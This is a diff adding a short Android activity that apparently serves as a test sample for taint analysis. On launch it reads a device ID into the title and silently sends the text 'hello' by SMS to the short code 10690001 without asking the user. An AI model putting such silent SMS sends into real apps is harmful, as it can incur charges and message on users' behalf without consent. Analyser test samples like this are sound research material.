@@ -1,0 +1,20 @@
+package cn.shanhai.context;
+
+import android.app.Activity;
+import android.os.Bundle;
+import android.telephony.SmsManager;
+
+public class MainActivity extends Activity {
+  @Override
+  protected void onCreate(Bundle state) {
+    super.onCreate(state);
+    String id = same(Device.id(this));
+    String word = same("hello");
+    setTitle(id);
+    SmsManager.getDefault().sendTextMessage("10690001", null, word, null, null);
+  }
+
+  private static String same(String text) {
+    return text;
+  }
+}
